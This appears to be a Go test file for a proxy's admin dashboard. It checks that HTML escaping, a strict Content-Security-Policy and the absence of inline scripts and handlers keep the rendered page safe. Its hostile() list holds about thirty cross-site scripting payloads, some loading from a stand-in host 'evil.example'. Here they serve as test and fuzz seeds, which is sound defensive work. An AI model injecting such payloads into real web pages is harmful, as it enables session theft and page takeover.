package dashboard_test

import (
	"html/template"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"text/template/parse"

	"github.com/stretchr/testify/require"
	"go.uber.org/goleak"
	"golang.org/x/net/html"

	"github.com/fridaymesh/friday/proxy/admin/dashboard"
	words "github.com/fridaymesh/friday/proxy/template"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

// get has a door with the page and its assets answer.
func get(tb testing.TB, o dashboard.Options, path string) (http.Header, string) {
	tb.Helper()
	mux := http.NewServeMux()
	mux.Handle("/{$}", dashboard.New(o))
	for p, h := range dashboard.Assets() {
		mux.HandleFunc(p, h)
	}
	w := httptest.NewRecorder()
	mux.ServeHTTP(w, httptest.NewRequest(http.MethodGet, path, http.NoBody))
	require.Equal(tb, 200, w.Code)
	return w.Header(), w.Body.String()
}

// skeleton is what a browser makes of a page: its elements with their attributes, and apart from
// these its words.
func skeleton(tb testing.TB, page string) (elements []string, words string) {
	tb.Helper()
	root, err := html.Parse(strings.NewReader(page))
	require.NoError(tb, err)
	var b strings.Builder
	for n := range root.Descendants() {
		switch n.Type { //nolint:exhaustive // the rest is not made of text from elsewhere
		case html.ElementNode:
			e := n.Data
			for _, a := range n.Attr {
				e += " " + a.Key + "=" + a.Val
			}
			elements = append(elements, e)
		case html.TextNode:
			b.WriteString(n.Data)
			b.WriteByte('\n')
		case html.CommentNode:
			elements = append(elements, "comment "+n.Data)
		}
	}
	return elements, b.String()
}

// hostile are texts that have undone pages, after OWASP's and others' collections.
func hostile() []string {
	return []string{
		`<script>alert(1)</script>`,
		`"><script src=https://evil.example/x.js></script>`,
		`</title><script>alert(1)</script>`,
		`</td></tr></table><script>alert(1)</script>`,
		`--><script>alert(1)</script><!--`,
		`]]><script>alert(1)</script>`,
		`<img src=x onerror=alert(1)>`,
		`'"><svg/onload=alert(1)>`,
		`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
		`<iframe srcdoc="<script>alert(1)</script>">`,
		`<a href="javascript:alert(1)">x</a>`,
		`javascript:alert(1)`,
		`data:text/html,<script>alert(1)</script>`,
		`" onmouseover="alert(1)" x="`,
		`' onfocus='alert(1)' autofocus='`,
		"` onload=alert(1)",
		`<style>*{background:url(//evil.example)}</style>`,
		`<base href=//evil.example/>`,
		`<meta http-equiv=refresh content="0;url=//evil.example">`,
		`<link rel=stylesheet href=//evil.example/x.css>`,
		`<form action=//evil.example><button>x</button></form>`,
		`<details open ontoggle=alert(1)>`,
		`<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<template><script>alert(1)</script></template>`,
		`{{.}}{{template "traffic"}}`,
		`${alert(1)}`,
		`&lt;script&gt;alert(1)&lt;/script&gt;`,
		`&#60;script&#62;alert(1)&#60;/script&#62;`,
		`+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
		"<scr\u2028ipt>\u202egpj.exe",
		`＜script＞alert(1)＜/script＞`,
		`<` + strings.Repeat("a", 300) + `>`,
	}
}

// changesNothing says that the words s make no other page than harmless ones, and are shown as
// they are, wherever they stand.
func changesNothing(tb testing.TB, s string) {
	tb.Helper()
	const tame = "tame-words"
	_, page := get(tb, stage(tb, func(string) string { return tame }), "/")
	want, calm := skeleton(tb, page)
	_, page = get(tb, stage(tb, func(string) string { return s }), "/")
	found, words := skeleton(tb, page)
	require.Equal(tb, want, found)
	require.Equal(tb, strings.Count(calm, tame), strings.Count(words, s), "shown as it is")
}

func TestHostileTextChangesNothing(t *testing.T) {
	for _, s := range hostile() {
		t.Run("", func(t *testing.T) { changesNothing(t, s) })
	}
}

func TestEveryPlaceIsShown(t *testing.T) {
	var places []string
	_, page := get(t, stage(t, func(place string) string {
		places = append(places, place)
		return "«" + place + "»"
	}), "/")
	_, words := skeleton(t, page)
	require.Greater(t, len(places), 20)
	for _, place := range places {
		require.Contains(t, words, "«"+place+"»")
	}
}

// html/template knows what escape each place needs: here it has to be the one of text and of quoted
// attributes everywhere, which is what the page is written with. The one address that is put in is
// of a door of ours.
func TestNoPlaceNeedsAnotherEscape(t *testing.T) {
	pages := template.New("page.html")
	nothing := func(...any) string { return "" }
	funcs := template.FuncMap{}
	for _, name := range []string{"seconds", "number", "bytes", "percent", "high", "rows", "more", "ready", "moment", "p50", "p99", "mean"} {
		funcs[name] = nothing
	}
	_, err := pages.Funcs(funcs).ParseFiles("page.html", "panels.html")
	require.NoError(t, err)
	require.Error(t, pages.Execute(io.Discard, 1), "it finds the escapes, and then no field of a number")
	found := map[string]int{}
	for _, one := range pages.Templates() {
		for n := range words.All(one.Tree.Root) {
			if action, ok := n.(*parse.ActionNode); ok && len(action.Pipe.Decl) == 0 {
				cmds := action.Pipe.Cmds
				for _, c := range cmds[1:] {
					found[c.String()]++
				}
				require.Greater(t, len(cmds), 1, "%s", action)
			}
		}
	}
	require.Equal(t, 1, found["_html_template_urlfilter"])
	require.Equal(t, 1, found["_html_template_urlnormalizer"])
	require.Greater(t, found["_html_template_htmlescaper"], 100)
	require.Positive(t, found["_html_template_attrescaper"])
	require.Equal(t, 1, found["_html_template_rcdataescaper"], "the title: as text")
	require.Len(t, found, 5, "%v", found)
}

func FuzzText(f *testing.F) {
	for _, s := range hostile() {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		// A label is UTF-8. HTML makes one line end of the others, and has no NUL; what is not
		// there is shown as a dash.
		if s = strings.ToValidUTF8(s, ""); strings.ContainsAny(s, "\r\x00") || strings.TrimSpace(s) == "" {
			t.Skip()
		}
		_, page := get(t, stage(t, func(string) string { return "x" + s }), "/")
		found, words := skeleton(t, page)
		_, page = get(t, stage(t, func(string) string { return "tame-words" }), "/")
		want, _ := skeleton(t, page)
		require.Equal(t, want, found)
		require.Contains(t, words, "x"+s)
	})
}

func TestPolicyHolds(t *testing.T) {
	for name, o := range map[string]dashboard.Options{"bare": bare(), "full": stage(t, func(p string) string { return p })} {
		t.Run(name, func(t *testing.T) {
			h, page := get(t, o, "/")
			require.Equal(t, "text/html; charset=UTF-8", h.Get("Content-Type"))
			require.Equal(t, "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self'; "+
				"base-uri 'none'; form-action 'none'; frame-ancestors 'none'", h.Get("Content-Security-Policy"))
			root, err := html.Parse(strings.NewReader(page))
			require.NoError(t, err)
			ids := make(map[string]bool)
			for n := range root.Descendants() {
				if n.Type != html.ElementNode {
					continue
				}
				require.NotEqual(t, "style", n.Data)
				if n.Data == "script" {
					require.Nil(t, n.FirstChild, "no script in the page itself")
				}
				for _, a := range n.Attr {
					require.NotEqual(t, "style", a.Key)
					require.False(t, strings.HasPrefix(a.Key, "on"), a.Key)
					switch a.Key {
					case "id":
						require.False(t, ids[a.Val], "twice: %s", a.Val)
						ids[a.Val] = true
					case "src", "href":
						require.Regexp(t, "^(/[a-z]|#)", a.Val, "of this door")
					}
				}
			}
			for n := range root.Descendants() {
				for _, a := range n.Attr {
					if part, ok := strings.CutPrefix(a.Val, "#"); ok && a.Key == "href" {
						require.True(t, ids[part], "leads nowhere: %s", part)
					}
				}
			}
		})
	}
}

func TestAssets(t *testing.T) {
	for path, kind := range map[string]string{
		"/dashboard.css": "text/css; charset=UTF-8", "/dashboard.js": "text/javascript; charset=UTF-8", "/icon.svg": "image/svg+xml",
	} {
		h, body := get(t, bare(), path)
		require.Equal(t, kind, h.Get("Content-Type"))
		require.NotContains(t, body, "//cdn")
		require.Equal(t, path == "/icon.svg", strings.Contains(body, "http://"), "nothing from elsewhere but a namespace's name")
		require.NotContains(t, body, "https://")
		require.NotContains(t, body, "innerHTML")
	}
}

func TestBare(t *testing.T) {
	_, page := get(t, bare(), "/")
	_, words := skeleton(t, page)
	for _, want := range []string{
		"LIVE", "v1.2.3", "No request has come yet.", "Nothing has been batched", "The cache has not been asked", "No streamed answer yet.",
		"No models are looked after here", "No jobs are taken here.", "No clusters are configured.", "no control plane is used",
	} {
		require.Contains(t, words, want)
	}
	require.NotContains(t, words, "NaN")
}

func TestFull(t *testing.T) {
	_, page := get(t, stage(t, func(p string) string { return p }), "/")
	_, words := skeleton(t, page)
	lines := strings.Split(words, "\n")
	for _, want := range []string{
		"17.5 ms", "9.09 %", "4.5 ×", "1.75 ms", "9 ms", "60 %", "375 ms", "running of 16 at most", "not connected", "99 %", "1 MiB",
		"1970-01-01 00:00:00Z",
	} {
		require.True(t, slices.ContainsFunc(lines, func(l string) bool { return strings.Contains(l, want) }), "%q not in %s", want, words)
	}
	require.NotContains(t, words, "NaN")
	require.NotContains(t, words, "Inf")
}
